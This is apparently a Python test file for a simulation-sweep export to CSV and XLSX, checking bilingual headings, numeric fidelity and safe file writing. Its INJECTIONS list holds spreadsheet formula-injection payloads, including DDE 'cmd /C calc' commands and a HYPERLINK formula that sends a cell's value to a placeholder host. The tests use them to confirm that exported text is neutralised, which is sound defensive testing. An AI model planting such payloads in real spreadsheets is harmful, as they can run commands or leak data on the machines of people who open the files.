"""The export for people: readable in Chinese and English, numbers as numbers, and no text that acts as a formula."""

from __future__ import annotations

import builtins
import csv
import errno
import os
from dataclasses import replace
from pathlib import Path

import pytest

from experiments.errors import StorageError
from experiments.sweep import durable
from experiments.sweep import export as exports
from experiments.sweep.export import export, guarded, headings
from experiments.sweep.folders import RUNS
from experiments.sweep.schema import Field
from experiments.sweep.store import SweepStore
from sim.errors import InputError
from tests.sweep_sample import COMMAND, VERSIONS, layout, made, row

INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"1")',
    "\u3000+1",
    "#N/A",
)


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """Return a store with one failed run and every injection among its scenarios and errors."""
    asked = layout(points=len(INJECTIONS), replicates=1, size=20, series=False)
    points = [{**point, "scenario": text} for point, text in zip(asked.points, INJECTIONS, strict=True)]
    asked = replace(asked, points=points, runs=len(INJECTIONS), drawn=())
    made_store = SweepStore.create(tmp_path_factory.mktemp("export") / "a", asked, VERSIONS, COMMAND)
    rows = [row(asked, ident, n, failed=(1,)) for n, ident in enumerate(made_store.run_ids(0))]
    rows = [replace(found, error=INJECTIONS[n] if n == 1 else None) for n, found in enumerate(rows)]
    made_store.record(made_store.write_part(0, rows))
    return made_store


def read_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def sheets(path: Path):
    openpyxl = pytest.importorskip("openpyxl")
    return openpyxl.load_workbook(path)


@pytest.mark.parametrize("language", ["zh", "en"])
def test_csv_holds_every_run_and_every_number(store, tmp_path, language):
    done = export(store, "csv", tmp_path / "a.csv", language)
    head, *rows = read_csv(tmp_path / "a.csv")
    assert head == headings(store.fields[RUNS], language) and len(set(head)) == len(head)
    assert (done.rows, done.total) == (len(rows), len(INJECTIONS)) == (14, 14)
    stored = store.runs()
    for place, field in enumerate(store.fields[RUNS]):
        if field.type == "float64":
            found = [float(cells[place]) if cells[place] else None for cells in rows]
            assert found == stored[field.name].to_pylist(), field.name
    assert any(float(cells[place]) < 0 for cells in rows for place in [head.index(head[-1])] if cells[place])


def test_headings_are_titles_with_units(store):
    zh, en = (headings(store.fields[RUNS], language) for language in ("zh", "en"))
    assert {"地区生产总值年均增速 [%/年]", "期末就业 [人]"} <= set(zh) and "GDP growth [% a year]" in en
    twice = [Field("a", "float64", "", "Same", "同"), Field("b", "float64", "", "Same", "同")]
    assert headings(twice, "en") == ["Same (a)", "Same (b)"]


@pytest.mark.parametrize("to", ["csv", "xlsx"])
def test_ids_are_the_columns_of_the_store_and_titles_write_first_quarters_as_dates(tmp_path, to):
    asked = layout(points=2, replicates=1, size=2, series=False, drawn=(), columns={"policy.I05b.from": "float64"})
    points = [{**point, "policy.I05b.from": start} for point, start in zip(asked.points, (1.0, 14.0), strict=True)]
    asked = replace(asked, points=points)
    store = SweepStore.create(tmp_path / "a", asked, VERSIONS, COMMAND)
    store.record(store.write_part(0, [row(asked, ident, n) for n, ident in enumerate(store.run_ids(0))]))

    def table(headed):
        path = export(store, to, tmp_path / f"{headed}.{to}", "en", headed).path
        return read_csv(path) if to == "csv" else list(sheets(path)["Runs"].iter_rows(values_only=True))

    head, *rows = table("ids")
    assert list(head) == [field.name for field in store.fields[RUNS]]
    assert [float(cells[7]) for cells in rows] == [1.0, 14.0]
    head, *rows = table("titles")
    assert head[7].startswith("First quarter of: ") and "[" not in head[7]
    assert [cells[7] for cells in rows] == ["2021Q1", "2024Q2"]


@pytest.mark.parametrize("place", range(len(INJECTIONS)))
def test_no_text_in_csv_is_a_formula(store, tmp_path, place):
    export(store, "csv", tmp_path / "a.csv")
    text = INJECTIONS[place]
    head, *rows = read_csv(tmp_path / "a.csv")
    cell = rows[place][head.index("情景")]
    assert cell == (text if text == "#N/A" else f"'{text}")
    assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for cells in rows for value in cells)


def test_numbers_and_plain_text_are_left_alone():
    assert [guarded(text) for text in ("ok", "", "a=b", "中文", "1-2")] == ["ok", "", "a=b", "中文", "1-2"]
    assert guarded("-1") == "'-1"  # text that looks like a number is still text; numbers never come here


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers(store, tmp_path):
    export(store, "xlsx", tmp_path / "a.xlsx", "en")
    sheet = sheets(tmp_path / "a.xlsx")["Runs"]
    head = [cell.value for cell in sheet[1]]
    assert head == headings(store.fields[RUNS], "en") and sheet.freeze_panes == "B2"
    place = head.index("Name of the scenario") + 1
    found = [sheet.cell(n + 2, place) for n in range(len(INJECTIONS))]
    assert [cell.value.replace("\r", "\n") for cell in found] == [text.replace("\r", "\n") for text in INJECTIONS]
    assert {cell.data_type for cell in found} == {"s"}
    assert all(cell.quotePrefix for cell in found if cell.value != "#N/A")
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.data_type in ("f", "e")]
    costs = head.index("Paid by the New Area over the run, or still owed [million yuan]")
    assert [line[costs] for line in sheet.iter_rows(min_row=2, values_only=True)] == store.runs()[
        "net_cost"
    ].to_pylist()
    failed = [cell.value for cell in sheet[3]]
    assert failed[4] == "failed" and failed[costs] is None


def test_the_second_sheet_says_where_it_comes_from_and_what_it_means(store, tmp_path):
    export(store, "xlsx", tmp_path / "a.xlsx")
    lines = list(sheets(tmp_path / "a.xlsx")["说明"].iter_rows(values_only=True))
    assert lines[0][:2] == ("已完成运行", "14 / 14 (100 %)")
    said = {line[0]: line[1] for line in lines if line[0]}
    assert said["命令"] == COMMAND and said["根种子"] == 7 and said["研究哈希"] == store.manifest["study_sha256"]
    assert [line[0] for line in lines[-len(store.fields[RUNS]) :]] == [field.name for field in store.fields[RUNS]]


def test_an_unfinished_sweep_is_exported_with_its_share(tmp_path):
    store = made(tmp_path / "a", order=(1,))
    done = export(store, "xlsx", tmp_path / "b" / "a.xlsx", "en")
    assert (done.rows, done.total) == (5, 12)
    assert sheets(done.path)["About"]["B1"].value == "5 / 12 (41 %)"
    assert export(made(tmp_path / "c", order=()), "csv", tmp_path / "c.csv").rows == 0


def test_odd_characters_and_long_text_do_not_break_a_sheet(tmp_path):
    asked = layout(points=1, replicates=1, size=1, series=False, drawn=())
    store = SweepStore.create(tmp_path / "a", asked, VERSIONS, COMMAND)
    plain = row(asked, store.run_ids(0)[0], 0, failed=(0,))
    store.record(store.write_part(0, [replace(plain, error="\x00\x1b=1", traceback="x" * 40_000)]))
    export(store, "xlsx", tmp_path / "a.xlsx", "en")
    cells = [cell.value for cell in sheets(tmp_path / "a.xlsx")["Runs"][2]]
    assert "\ufffd\ufffd=1" in cells and max(len(str(cell)) for cell in cells) == 32_767
    export(store, "csv", tmp_path / "a.csv", "en")
    assert b"\x00" not in (tmp_path / "a.csv").read_bytes()


@pytest.mark.parametrize(
    ("to", "language", "words"),
    [("xls", "zh", r"--to xls: not known.*csv or xlsx.*did you mean xlsx"), ("csv", "de", r"--language de: not known")],
)
def test_a_wrong_choice_is_named(store, tmp_path, to, language, words):
    with pytest.raises(InputError, match=words):
        export(store, to, tmp_path / "a", language)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("to", ["csv", "xlsx"])
def test_a_file_that_exists_is_never_replaced(store, tmp_path, to):
    (tmp_path / "a").write_text("mine", "utf-8")
    (tmp_path / "link").symlink_to("nowhere")
    for name in ("a", "link"):
        with pytest.raises(InputError, match="exists already and is not replaced"):
            export(store, to, tmp_path / name)
    with pytest.raises(InputError, match="cannot be written"):
        export(store, to, tmp_path / "a" / "b")
    assert (tmp_path / "a").read_text("utf-8") == "mine" and len(list(tmp_path.iterdir())) == 2


@pytest.mark.parametrize("to", ["csv", "xlsx"])
def test_a_full_disk_leaves_nothing_behind(store, tmp_path, monkeypatch, to):
    def full(descriptor, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(durable, "_write", full)
    with pytest.raises(StorageError, match="the disk is full"):
        export(store, to, tmp_path / "a")
    assert list(tmp_path.iterdir()) == []


def test_without_the_library_xlsx_says_what_to_install(store, tmp_path, monkeypatch):
    imports = builtins.__import__

    def without(name, *rest):
        if name.startswith("openpyxl"):
            raise ImportError(name)
        return imports(name, *rest)

    monkeypatch.setattr(builtins, "__import__", without)
    with pytest.raises(InputError, match=r"dianzhong\[spreadsheet\]"):
        export(store, "xlsx", tmp_path / "a")
    assert export(store, "csv", tmp_path / "a").rows == 14


def test_a_sheet_that_is_too_small_says_so(store, tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "_SHEET_ROWS", 10)
    with pytest.raises(InputError, match=r"a sheet holds 9 rows.*--to csv"):
        export(store, "xlsx", tmp_path / "a")
    assert list(tmp_path.iterdir()) == []


def test_a_full_temporary_folder_is_named(store, tmp_path, monkeypatch):
    def full(*arguments):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(exports, "_workbook", full)
    with pytest.raises(StorageError, match="the disk is full"):
        export(store, "xlsx", tmp_path / "a")
